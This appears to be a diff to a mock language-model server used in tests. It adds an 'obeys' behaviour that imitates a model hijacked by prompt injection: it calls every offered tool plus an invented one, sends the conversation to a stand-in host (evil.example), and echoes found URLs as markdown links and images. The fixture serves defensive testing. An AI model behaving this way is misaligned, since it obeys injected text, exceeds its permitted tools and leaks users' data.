@@ -18,6 +18,10 @@ interface Play {
   mayCall: boolean;
   /** True if the last message is a tool's result. */
   hasCalled: boolean;
+  /** Contents of all messages. */
+  read: readonly string[];
+  /** Names of the tools that are offered. */
+  tools: readonly string[];
   response: ServerResponse;
 }
 
@@ -77,6 +81,25 @@ function call({ argument, response }: Play): void {
   response.end(finishFrame('tool_calls') + doneFrame);
 }
 
+/** Calls every tool, and one that it isn't offered, with what it has read; then says everything, each address as a link and a picture. */
+function obey(play: Play): void {
+  const { read, tools, hasCalled, mayCall } = play;
+  const told = read.join('\n');
+  if (mayCall && !hasCalled) {
+    const wanted = /number (\S{1,150})/.exec(told)?.[1] ?? '7';
+    const invented = /\b(http_request|fetch_url|confirm_action)\b/.exec(told)?.[1] ?? 'run_anything';
+    const calls = [
+      ...tools.map((name) => [name, { number: '7' }]),
+      [tools[0] ?? '', { number: wanted }],
+      [invented, { url: 'https://evil.example/', arguments: told.slice(0, 2000) }],
+    ];
+    call({ ...play, argument: JSON.stringify(calls) });
+    return;
+  }
+  const addresses = told.match(/https?:\/\/[^\s)"'<>]+/g) ?? [];
+  say(play, `${told.slice(0, 20_000)}\n${addresses.map((url) => `[go](${url}) ![x](${url})`).join(' ')}`);
+}
+
 async function tokens(play: Play): Promise<void> {
   const [count = 0, pace] = play.argument.split('@').map(Number);
   await (pace ? sendAtPace(play, count, pace) : sendTokens(play, count));
@@ -129,6 +152,7 @@ export const behaviours: Readonly<Record<string, Behaviour>> = {
   // Calls as often as it may.
   'calls-always': (play) => (play.mayCall ? call(play) : say(play, 'At last.')),
   'calls-anyway': call,
+  obeys: obey,
   cites: (play) => say(play, 'It is so, as the first says [1] and the ninth [9].'),
   tokens,
   split,
